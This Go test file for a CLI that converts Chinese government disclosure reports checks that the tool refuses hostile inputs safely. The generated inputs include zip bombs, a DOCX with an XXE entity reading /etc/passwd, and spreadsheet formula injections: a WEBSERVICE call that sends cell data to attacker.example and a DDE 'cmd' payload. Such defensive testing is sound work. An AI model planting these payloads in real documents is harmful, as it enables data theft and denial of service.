package cli

import (
	"archive/zip"
	"bufio"
	"bytes"
	"compress/flate"
	"crypto/sha256"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"math/rand"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/simplifiedchinese"

	"github.com/xxgk/xxgk/convert"
	"github.com/xxgk/xxgk/report"
)

// The hostile-input test runs xxgk as a child process (this test binary
// re-executed with XXGK_CLI_CHILD=1, which runs the CLI instead of the
// tests) on inputs it generates in t.TempDir(): nothing hostile is committed.
// Every case must end with exit 2 and a message naming the file (and the
// place, where there is one), no output and the input unmodified; or, for a
// readable report with bad values, a converted file whose notes name the
// cells and findings from check. Every run must stay within the memory limit
// below, measured on the child (peak RSS from rusage); wall times are logged,
// not limited, since a loaded machine is not a slow xxgk.

const hostileMaxRSS = 256 << 20

func TestMain(m *testing.M) {
	if os.Getenv("XXGK_CLI_CHILD") == "1" {
		report.Generator = "xxgk " + version
		os.Exit(run(os.Args[1:], os.Stdin, os.Stdout, os.Stderr))
	}
	os.Exit(m.Run())
}

// childResult is one run of the CLI as a child process.
type childResult struct {
	code           int
	stdout, stderr string
	rss            int64 // bytes
	wall           time.Duration
}

// childCPU sums the CPU time of every child run (CI budget), in
// nanoseconds: children run from several goroutines at once.
var childCPU atomic.Int64

// runChild runs the CLI in a child process and measures it.
func runChild(t *testing.T, dir string, args ...string) childResult {
	t.Helper()
	cmd := exec.Command(os.Args[0], args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "XXGK_CLI_CHILD=1", "GOMAXPROCS=2")
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	start := time.Now()
	err := cmd.Run()
	res := childResult{wall: time.Since(start), stdout: out.String(), stderr: errb.String()}
	if err != nil {
		ee, ok := err.(*exec.ExitError)
		require.True(t, ok, "run %v: %v", args, err)
		res.code = ee.ExitCode()
	}
	if ru, ok := cmd.ProcessState.SysUsage().(*syscall.Rusage); ok {
		res.rss = ru.Maxrss * 1024 // kilobytes on Linux
		childCPU.Add(ru.Utime.Nano() + ru.Stime.Nano())
	}
	return res
}

// sampleText is the repository's synthetic 2021 sample report.
func sampleText(t *testing.T) string {
	b, err := os.ReadFile(filepath.Join("..", "..", "testdata", "sample-2021.txt"))
	require.NoError(t, err)
	return string(b)
}

// rendered converts the sample to ext with xxgk itself.
func rendered(t *testing.T, ext string) []byte {
	r, err := convert.ReadFile(filepath.Join("..", "..", "testdata", "sample-2021.txt"), convert.Options{})
	require.NoError(t, err)
	b, err := convert.Render(r, ext, convert.Options{})
	require.NoError(t, err)
	return b
}

func writeBytes(b []byte) func(t *testing.T, path string) {
	return func(t *testing.T, path string) { require.NoError(t, os.WriteFile(path, b, 0o644)) }
}

func writeText(f func(t *testing.T) string) func(t *testing.T, path string) {
	return func(t *testing.T, path string) { require.NoError(t, os.WriteFile(path, []byte(f(t)), 0o644)) }
}

// replaceLine replaces the first line of the sample starting with prefix.
func replaceLine(t *testing.T, text, prefix, line string) string {
	lines := strings.Split(text, "\n")
	for i, l := range lines {
		if strings.HasPrefix(l, prefix) {
			lines[i] = line
			return strings.Join(lines, "\n")
		}
	}
	t.Fatalf("no line %q", prefix)
	return ""
}

// between returns the lines from the one starting with from up to (not
// including) the one starting with to.
func between(t *testing.T, text, from, to string) string {
	i := strings.Index(text, "\n"+from)
	j := strings.Index(text, "\n"+to)
	require.True(t, i >= 0 && j > i, "%s … %s", from, to)
	return text[i+1 : j+1]
}

// zipWith writes a zip of the given entries (name → content) in order.
func zipWith(t *testing.T, w io.Writer, names []string, content map[string][]byte) {
	zw := zip.NewWriter(w)
	for _, n := range names {
		fw, err := zw.Create(n)
		require.NoError(t, err)
		_, err = fw.Write(content[n])
		require.NoError(t, err)
	}
	require.NoError(t, zw.Close())
}

// unzipAll reads a zip package into memory, keeping the entry order.
func unzipAll(t *testing.T, data []byte) ([]string, map[string][]byte) {
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	require.NoError(t, err)
	var names []string
	m := map[string][]byte{}
	for _, f := range zr.File {
		rc, err := f.Open()
		require.NoError(t, err)
		b, err := io.ReadAll(rc)
		require.NoError(t, err)
		rc.Close()
		names = append(names, f.Name)
		m[f.Name] = b
	}
	return names, m
}

// bombEntry adds an entry to zw whose content is prefix followed by n bytes
// of spaces, deflated without ever holding them: one megabyte of spaces is
// compressed once and its (byte-aligned, self-contained) blocks repeated.
func bombEntry(t *testing.T, zw *zip.Writer, name string, prefix []byte, megabytes int) {
	var mb bytes.Buffer
	fw, err := flate.NewWriter(&mb, flate.BestCompression)
	require.NoError(t, err)
	_, err = fw.Write(bytes.Repeat([]byte(" "), 1<<20))
	require.NoError(t, err)
	require.NoError(t, fw.Flush())
	// A stored block with the prefix, then the repeated blocks, then an
	// empty final block.
	var body bytes.Buffer
	body.WriteByte(0)
	binary.Write(&body, binary.LittleEndian, uint16(len(prefix)))
	binary.Write(&body, binary.LittleEndian, ^uint16(len(prefix)))
	body.Write(prefix)
	for i := 0; i < megabytes; i++ {
		body.Write(mb.Bytes())
	}
	body.Write([]byte{0x03, 0x00})
	crc := crc32.NewIEEE()
	crc.Write(prefix)
	space := bytes.Repeat([]byte(" "), 1<<20)
	for i := 0; i < megabytes; i++ {
		crc.Write(space)
	}
	w, err := zw.CreateRaw(&zip.FileHeader{Name: name, Method: zip.Deflate, CRC32: crc.Sum32(),
		CompressedSize64: uint64(body.Len()), UncompressedSize64: uint64(len(prefix)) + uint64(megabytes)<<20})
	require.NoError(t, err)
	_, err = w.Write(body.Bytes())
	require.NoError(t, err)
}

// zipBomb replaces entry target of a rendered package by a bomb.
func zipBomb(ext, target string, prefix string, megabytes int) func(t *testing.T, path string) {
	return func(t *testing.T, path string) {
		names, content := unzipAll(t, rendered(t, ext))
		f, err := os.Create(path)
		require.NoError(t, err)
		defer f.Close()
		zw := zip.NewWriter(f)
		for _, n := range names {
			if n == target {
				bombEntry(t, zw, n, []byte(prefix), megabytes)
				continue
			}
			w, err := zw.Create(n)
			require.NoError(t, err)
			w.Write(content[n])
		}
		require.NoError(t, zw.Close())
	}
}

// millionRows writes a workbook whose first sheet has a million rows,
// streaming the sheet XML into the zip.
func millionRows(t *testing.T, path string) {
	names, content := unzipAll(t, rendered(t, ".xlsx"))
	f, err := os.Create(path)
	require.NoError(t, err)
	defer f.Close()
	zw := zip.NewWriter(f)
	for _, n := range names {
		w, err := zw.Create(n)
		require.NoError(t, err)
		if n != "xl/worksheets/sheet1.xml" {
			w.Write(content[n])
			continue
		}
		bw := bufio.NewWriterSize(w, 1<<16)
		bw.WriteString(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` +
			`<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`)
		for r := 1; r <= 1000000; r++ {
			fmt.Fprintf(bw, `<row r="%d"><c r="A%d"><v>%d</v></c></row>`, r, r, r%97)
		}
		bw.WriteString(`</sheetData></worksheet>`)
		require.NoError(t, bw.Flush())
	}
	require.NoError(t, zw.Close())
}

// withoutStamp removes the xxgk version stamp of a workbook so that it is
// read as a foreign workbook, by its labels.
func foreignWorkbook(t *testing.T, edit func(f *excelize.File)) []byte {
	f, err := excelize.OpenReader(bytes.NewReader(rendered(t, ".xlsx")))
	require.NoError(t, err)
	defer f.Close()
	edit(f)
	var buf bytes.Buffer
	require.NoError(t, f.Write(&buf))
	return buf.Bytes()
}

// docxWithEntity declares an external entity in word/document.xml and uses
// it in a paragraph.
func docxWithEntity(t *testing.T, path string) {
	names, content := unzipAll(t, rendered(t, ".docx"))
	doc := string(content["word/document.xml"])
	decl := `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`
	require.True(t, strings.HasPrefix(doc, decl), doc[:80])
	doc = decl + `<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY lol "lollollollollol">]>` + doc[len(decl):]
	i := strings.Index(doc, "<w:t")
	j := strings.Index(doc[i:], ">")
	doc = doc[:i+j+1] + "&xxe;&lol;" + doc[i+j+1:]
	content["word/document.xml"] = []byte(doc)
	f, err := os.Create(path)
	require.NoError(t, err)
	defer f.Close()
	zipWith(t, f, names, content)
}

// repeatLines writes head, n times line, and tail, buffered.
func repeatLines(head, line, tail string, n int) func(t *testing.T, path string) {
	return func(t *testing.T, path string) {
		f, err := os.Create(path)
		require.NoError(t, err)
		defer f.Close()
		w := bufio.NewWriterSize(f, 1<<20)
		w.WriteString(head)
		for i := 0; i < n; i++ {
			w.WriteString(line)
		}
		w.WriteString(tail)
		require.NoError(t, w.Flush())
	}
}

// manyParagraphs writes a docx whose body starts with 150,000 paragraphs of
// varied text (so that it compresses like prose) before the report.
func manyParagraphs(t *testing.T, path string) {
	names, content := unzipAll(t, rendered(t, ".docx"))
	doc := string(content["word/document.xml"])
	i := strings.Index(doc, "<w:body>") + len("<w:body>")
	var b strings.Builder
	b.WriteString(doc[:i])
	rng := rand.New(rand.NewSource(1))
	for p := 0; p < 150000; p++ {
		b.WriteString("<w:p><w:r><w:t>")
		for k := 0; k < 12; k++ {
			b.WriteRune(rune(0x4e00 + rng.Intn(3000)))
		}
		b.WriteString("</w:t></w:r></w:p>")
	}
	b.WriteString(doc[i:])
	content["word/document.xml"] = []byte(b.String())
	f, err := os.Create(path)
	require.NoError(t, err)
	defer f.Close()
	zipWith(t, f, names, content)
}

type hostileCase struct {
	name string
	file string // base name of the input
	gen  func(t *testing.T, path string)
	args []string // extra arguments to convert
	// where: a regexp the message must match after the file name (the
	// place), "" when the whole file is at fault.
	where string
	// readable: a report with bad values; convert succeeds with notes that
	// match notes, check finds errors.
	readable bool
	notes    string
}

func hostileCases() []hostileCase {
	noise := func(n int) []byte {
		b := make([]byte, n)
		rand.New(rand.NewSource(int64(n))).Read(b)
		return b
	}
	var cases []hostileCase
	for _, ext := range []string{".txt", ".md", ".html", ".docx", ".xlsx", ".json"} {
		cases = append(cases,
			hostileCase{name: "empty" + ext, file: "empty" + ext, gen: writeBytes(nil)},
			hostileCase{name: "noise" + ext, file: "noise" + ext, gen: writeBytes(noise(200000))})
	}
	for _, ext := range []string{".xlsx", ".docx"} {
		ext := ext
		cases = append(cases,
			hostileCase{name: "truncated" + ext, file: "truncated" + ext, gen: func(t *testing.T, path string) {
				b := rendered(t, ext)
				writeBytes(b[:len(b)/2])(t, path)
			}},
			hostileCase{name: "corrupt" + ext, file: "corrupt" + ext, gen: func(t *testing.T, path string) {
				b := rendered(t, ext)
				// Overwrite the middle of the compressed data: the
				// directory still lists every part.
				for i := len(b) / 3; i < len(b)/3+64; i++ {
					b[i] ^= 0x5a
				}
				writeBytes(b)(t, path)
			}},
		)
	}
	cases = append(cases,
		hostileCase{name: "zip bomb xlsx", file: "bomb.xlsx",
			gen: zipBomb(".xlsx", "xl/worksheets/sheet1.xml", `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`, 2048)},
		hostileCase{name: "zip bomb docx", file: "bomb.docx",
			gen: zipBomb(".docx", "word/document.xml", `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>`, 2048)},
		hostileCase{name: "million rows", file: "rows.xlsx", gen: millionRows, where: `rows`},
		hostileCase{name: "100 MB text", file: "big.txt", gen: func(t *testing.T, path string) {
			f, err := os.Create(path)
			require.NoError(t, err)
			defer f.Close()
			s := sampleText(t)
			for n := 0; n < 100<<20; n += len(s) {
				f.WriteString(s)
			}
		}},
		hostileCase{name: "10 MB line", file: "line.txt", gen: writeText(func(t *testing.T) string {
			return sampleText(t) + "\n" + strings.Repeat("一、本年新收政府信息公开申请数量 | 1 |", 10<<20/56) + "\n"
		}), where: `line`},
		hostileCase{name: "7 million lines", file: "lines.txt", gen: repeatLines("", "1 | 2 |\n", "", 7000000), where: `line 20001`},
		hostileCase{name: "5 million markdown rows", file: "rows.md", gen: repeatLines("| a | b |\n|---|---|\n", "| 1 | 2 |\n", "", 5000000), where: `line 20001`},
		hostileCase{name: "1.5 million html rows", file: "rows.html", gen: repeatLines("<table>", "<tr><td>1</td><td>2</td></tr>", "</table>", 1500000), where: `tags`},
		hostileCase{name: "150000 docx paragraphs", file: "paras.docx", gen: manyParagraphs, where: `document\.xml`},
		hostileCase{name: "10 MB line of text", file: "prose.txt", gen: writeText(func(t *testing.T) string {
			return strings.Repeat("政府信息公开", 10<<20/18)
		})},
		hostileCase{name: "deep html", file: "deep.html", gen: writeText(func(t *testing.T) string {
			return strings.Repeat("<div>", 100000) + "一、总体情况" + strings.Repeat("</div>", 100000)
		}), where: `tags`},
		hostileCase{name: "deep html under the tag cap", file: "deep2.html", gen: writeText(func(t *testing.T) string {
			return strings.Repeat("<div>", 25000) + "一、总体情况" + strings.Repeat("</div>", 25000)
		}), where: `512`},
		hostileCase{name: "invalid utf-8", file: "invalid.txt", gen: func(t *testing.T, path string) {
			s := sampleText(t)
			i := strings.Index(s, "二、主动公开")
			writeBytes([]byte(s[:i]+"\xff\xfe\x80"+s[i:]))(t, path)
		}, where: `(byte|字节)`},
		hostileCase{name: "mixed encodings", file: "mixed.txt", gen: func(t *testing.T, path string) {
			s := sampleText(t)
			i := strings.Index(s, "五、存在的主要问题")
			gbk, err := simplifiedchinese.GBK.NewEncoder().String(s[i:])
			require.NoError(t, err)
			writeBytes([]byte(s[:i]+gbk))(t, path)
		}, where: `(byte|字节)`},
		hostileCase{name: "docx external entity", file: "xxe.docx", gen: docxWithEntity, where: `document\.xml`},
		hostileCase{name: "1e309", file: "huge.txt", gen: writeText(func(t *testing.T) string {
			return replaceLine(t, sampleText(t), "一、本年新收", "一、本年新收政府信息公开申请数量 | 1e309 | 4 | 1 | 0 | 2 | 0 | 37 | ||")
		}), readable: true, notes: `t3\.new_received\.natural`},
		hostileCase{name: "1e309 in json", file: "huge.json", gen: writeBytes([]byte(`{"format":"2021","year":2022,"cells":{"t3.new_received.natural":1e309}}`)), where: `1e309`},
		hostileCase{name: "twenty nines", file: "nines.txt", gen: writeText(func(t *testing.T) string {
			return replaceLine(t, sampleText(t), "二、上年结转", "二、上年结转政府信息公开申请数量 | 99999999999999999999 | 0 | 0 | 0 | 0 | 0 | 3 | ||")
		}), readable: true, notes: `t3\.carried_over\.natural`},
		hostileCase{name: "negative counts", file: "negative.txt", gen: writeText(func(t *testing.T) string {
			return replaceLine(t, sampleText(t), "规章 |", "规章 | -5 | 0 | 3 |")
		}), readable: true},
		hostileCase{name: "label repeated", file: "repeated.txt", gen: writeText(func(t *testing.T) string {
			s := sampleText(t)
			return strings.Replace(s, "2.重复申请 | 1 | 0 | 0 | 0 | 0 | 0 | 1 | ||\n",
				"2.重复申请 | 1 | 0 | 0 | 0 | 0 | 0 | 1 | ||\n2.重复申请 | 7 | 0 | 0 | 0 | 0 | 0 | 7 | ||\n", 1)
		}), readable: true, notes: `t3\.not_processed\.repeat`},
		hostileCase{name: "two t3", file: "two-t3.txt", gen: writeText(func(t *testing.T) string {
			s := sampleText(t)
			t3 := between(t, s, "三、收到和处理", "四、政府信息公开行政复议")
			t3b := strings.Replace(t3, "一、本年新收政府信息公开申请数量 | 30 |", "一、本年新收政府信息公开申请数量 | 31 |", 1)
			return strings.Replace(s, t3, t3+t3b, 1)
		}), readable: true, notes: `t3\.`},
	)
	cases = append(cases,
		hostileCase{name: "max-size text", file: "small.txt", gen: writeText(sampleText), args: []string{"--max-size", "1000"}, where: `1000`},
		// The workbook is 30 KB and unzips to 150 KB: the cap applies to
		// what it unzips to.
		hostileCase{name: "max-size workbook", file: "small.xlsx", gen: func(t *testing.T, path string) {
			writeBytes(rendered(t, ".xlsx"))(t, path)
		}, args: []string{"--max-size", "100000"}, where: `100000`},
	)
	formulaCase := func(name, cell, formula string) hostileCase {
		return hostileCase{name: "formula " + name, file: "formula-" + strings.ReplaceAll(name, " ", "-") + ".xlsx",
			gen: func(t *testing.T, path string) {
				writeBytes(foreignWorkbook(t, func(f *excelize.File) {
					require.NoError(t, f.SetCellFormula("三、依申请公开", cell, formula))
				}))(t, path)
			}, readable: true, notes: `t3\.new_received\.natural`}
	}
	cases = append(cases,
		formulaCase("external file", "D8", `'C:\secret\[book.xlsx]Sheet1'!A1`),
		formulaCase("external index", "D8", `[1]Sheet1!A1`),
		formulaCase("webservice", "D8", `WEBSERVICE("http://attacker.example/?q="&A1)`),
		formulaCase("hyperlink", "D8", `HYPERLINK("http://attacker.example/","30")`),
		formulaCase("dde", "D8", `cmd|'/c calc'!A0`),
		formulaCase("now", "D8", `NOW()`),
	)
	return cases
}

var reTmp = regexp.MustCompile(`\.tmp-`)

func TestHostileInputs(t *testing.T) {
	if testing.Short() {
		t.Skip("hostile inputs: skipped in -short")
	}
	var worstRSS int64
	var worstWall time.Duration
	var worstRSSCase, worstWallCase string
	for _, c := range hostileCases() {
		c := c
		t.Run(c.name, func(t *testing.T) {
			dir := t.TempDir()
			in := filepath.Join(dir, c.file)
			c.gen(t, in)
			before := fileSum(t, in)
			for _, outExt := range []string{".json", ".xlsx"} {
				out := filepath.Join(dir, "out"+outExt)
				res := runChild(t, dir, append([]string{"convert", c.file, "out" + outExt}, c.args...)...)
				if res.rss > worstRSS {
					worstRSS, worstRSSCase = res.rss, c.name
				}
				if res.wall > worstWall {
					worstWall, worstWallCase = res.wall, c.name
				}
				assert.LessOrEqual(t, res.rss, int64(hostileMaxRSS), "peak RSS %d MB", res.rss>>20)
				if c.readable {
					require.Equal(t, 0, res.code, res.stderr)
					r, err := convert.ReadFile(out, convert.Options{})
					require.NoError(t, err)
					if c.notes != "" {
						var b strings.Builder
						for _, n := range r.Notes {
							fmt.Fprintf(&b, "%s %s %v %s\n", n.Kind, n.Pos, n.Cells, n.Detail)
						}
						assert.Regexp(t, c.notes, b.String(), "notes")
					}
					continue
				}
				assert.Equal(t, exitBad, res.code, "stdout %s\nstderr %s", res.stdout, res.stderr)
				assert.Contains(t, res.stderr, c.file)
				if c.where != "" {
					assert.Regexp(t, c.where, res.stderr, "the place")
				}
				assert.Regexp(t, `（[a-z_]+）`, res.stderr, "the code")
				assert.NoFileExists(t, out)
				t.Logf("%s → %s: %s (%d MB, %v)", c.file, outExt, strings.TrimSpace(res.stderr), res.rss>>20, res.wall.Round(time.Millisecond))
			}
			if !c.readable {
				// check refuses the same input the same way.
				res := runChild(t, dir, append([]string{"check", c.file}, c.args...)...)
				assert.Equal(t, exitBad, res.code, "check: %s %s", res.stdout, res.stderr)
				assert.Contains(t, res.stdout+res.stderr, c.file)
				assert.LessOrEqual(t, res.rss, int64(hostileMaxRSS), "check: peak RSS %d MB", res.rss>>20)
				if res.rss > worstRSS {
					worstRSS, worstRSSCase = res.rss, c.name+" (check)"
				}
				if res.wall > worstWall {
					worstWall, worstWallCase = res.wall, c.name+" (check)"
				}
			}
			if c.readable {
				res := runChild(t, dir, "check", c.file)
				assert.Contains(t, []int{exitOK, exitFindings}, res.code, "check: %s %s", res.stdout, res.stderr)
				assert.Regexp(t, `(?m)^\s*(错误|警告) \S+\s+`+regexp.QuoteMeta(c.file), res.stdout, "check names a finding")
				assert.LessOrEqual(t, res.rss, int64(hostileMaxRSS))
			}
			assert.Equal(t, before, fileSum(t, in), "the input is unmodified")
			entries, err := os.ReadDir(dir)
			require.NoError(t, err)
			for _, e := range entries {
				assert.NotRegexp(t, reTmp, e.Name(), "temporary file left behind")
			}
		})
	}
	t.Logf("worst peak RSS: %d MB (%s); worst time: %v (%s); CPU of all runs: %v",
		worstRSS>>20, worstRSSCase, worstWall.Round(time.Millisecond), worstWallCase, time.Duration(childCPU.Load()).Round(time.Millisecond))
}

func fileSum(t *testing.T, path string) [32]byte {
	f, err := os.Open(path)
	require.NoError(t, err)
	defer f.Close()
	h := sha256.New()
	_, err = io.Copy(h, f)
	require.NoError(t, err)
	var s [32]byte
	copy(s[:], h.Sum(nil))
	return s
}

// Standard input is capped like a file: an endless stream is refused after
// --max-size bytes, not read into memory.
func TestHostileStdin(t *testing.T) {
	if testing.Short() {
		t.Skip()
	}
	cmd := exec.Command(os.Args[0], "convert", "-", "out.json", "--from", "txt", "--max-size", "1000000")
	dir := t.TempDir()
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "XXGK_CLI_CHILD=1")
	zero, err := os.Open("/dev/zero")
	if err != nil {
		t.Skip("no /dev/zero")
	}
	defer zero.Close()
	cmd.Stdin = zero
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	start := time.Now()
	err = cmd.Run()
	ee, ok := err.(*exec.ExitError)
	require.True(t, ok, "%v", err)
	assert.Equal(t, exitBad, ee.ExitCode())
	assert.Contains(t, stderr.String(), "stdin")
	assert.Contains(t, stderr.String(), "（too_large）")
	t.Logf("refused in %v", time.Since(start).Round(time.Millisecond))
	assert.NoFileExists(t, filepath.Join(dir, "out.json"))
}
